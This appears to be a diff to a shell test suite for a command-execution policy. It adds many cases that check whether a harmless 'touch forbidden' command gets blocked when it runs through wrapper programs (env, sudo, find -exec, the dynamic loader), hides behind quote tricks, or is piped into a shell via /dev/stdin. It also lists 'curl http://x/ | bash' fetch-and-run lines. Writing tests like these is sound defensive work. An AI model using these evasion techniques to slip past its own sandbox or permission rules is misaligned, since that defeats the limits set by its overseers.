@@ -46,19 +46,30 @@ H01_every_place_where_a_command_may_stand() {
     "trap 'touch forbidden' EXIT" $'true\ntouch forbidden' '[ -n "$(touch forbidden)" ]'
 }
 
+# Only a judge that reads the text finds `touch forbidden` in this one: the words of the
+# command itself hold no such thing.
+hidden="sh -c 'to\"\"uch forbidden'"
+
 H03_programs_that_start_another() {
   shell_scene
-  blocked 'env touch forbidden' 'env -i A=b touch forbidden' "env -S 'touch forbidden'" \
-    'nohup touch forbidden' 'timeout 5 touch forbidden' 'nice -n 1 touch forbidden' \
-    'setsid touch forbidden' 'stdbuf -o0 touch forbidden' 'command touch forbidden' \
-    'exec touch forbidden' 'eval touch forbidden' 'eval "to"uch forbidden' \
-    "sh -c 'touch forbidden'" "bash -lc 'touch forbidden'" 'busybox touch forbidden' \
-    "busybox sh -c 'touch forbidden'" 'echo forbidden | xargs touch' 'xargs -a x touch' \
-    'find . -maxdepth 0 -exec touch forbidden \;' "flock x -c 'touch forbidden'" \
-    "script -c 'touch forbidden' /dev/null" 'chroot / touch forbidden' \
-    'unshare touch forbidden' "su -c 'touch forbidden'" 'sudo touch forbidden' \
-    '/lib64/ld-linux-x86-64.so.2 /usr/bin/touch forbidden' 'strace touch forbidden' \
-    'taskset 1 touch forbidden' 'setpriv touch forbidden' 'ionice touch forbidden'
+  local starter
+  for starter in env 'env -i A=b' nohup 'timeout 5' 'nice -n 1' 'setsid -w' 'stdbuf -o0' \
+    command exec busybox 'flock x' 'chroot /' unshare 'taskset 1' setpriv 'ionice -c3' \
+    'chrt -b 0' 'choom -n 0 --' x86_64 i386 linux32 linux64 uname26 'prlimit --nofile=100' \
+    'ssh-agent' 'dbus-run-session --' valgrind strace sudo 'su-exec x' fakeroot eatmydata \
+    'faketime 2020-01-01' 'xvfb-run -a' 'npx -y' 'uv run' 'perf stat' 'chronic' 'time' \
+    'xargs -I{}' 'find . -maxdepth 0 -exec' 'gdb --args' 'systemd-run' 'script -c' eval; do
+    case $starter in
+      find*) blocked "$starter $hidden \;" ;;
+      'script -c') blocked "script -qc 'to\"\"uch forbidden' /dev/null" ;;
+      *) blocked "$starter $hidden" ;;
+    esac
+  done
+  blocked "$hidden" "bash -lc 'to\"\"uch forbidden'" "flock x -c 'to\"\"uch forbidden'" \
+    "su -c 'to\"\"uch forbidden'" "eval 'to\"\"uch forbidden'" "env -S 'to\"\"uch forbidden'" \
+    'echo forbidden | xargs touch' 'xargs -a x touch' "e=-exec; find . \$e $hidden \;" \
+    "find . -maxdepth 0 \"\$e\"-exec $hidden \;" "find . ! -name -exec -exec $hidden \;" \
+    "/lib64/ld-linux-x86-64.so.2 /bin/$hidden" "CC='to\"\"uch forbidden' make"
   # As words, without a shell.
   local words
   for words in 'env touch forbidden' 'sh -c touch\ forbidden' 'xargs touch' 'nice touch forbidden'; do
@@ -74,7 +85,10 @@ H05_texts_that_a_shell_reads_elsewhere() {
   blocked 'echo touch forbidden | sh' 'printf "touch forbidden" | bash' 'sh' 'bash -i' \
     $'sh <<E\ntouch forbidden\nE' $'sh <<"E"\ntouch forbidden\nE' 'bash <(echo touch forbidden)' \
     '. /dev/stdin' 'sh /dev/stdin' 'curl http://x/ | bash' 'curl http://x/ |bash -s' \
-    'curl http://x/ | env bash' $'cat <<E | sh\ntouch forbidden\nE'
+    'curl http://x/ | env bash' $'cat <<E | sh\ntouch forbidden\nE' \
+    'echo touch forbidden | sh /dev/./stdin' 'echo touch forbidden | . //dev/stdin' \
+    'cd /dev; echo touch /workspace/forbidden | sh stdin' \
+    'cd /proc/self; echo touch /workspace/forbidden | sh fd/0'
   # Its own input is no way in either.
   echo 'touch forbidden' >text
   input=text run exec --policy p.yaml --workspace work 'sh'
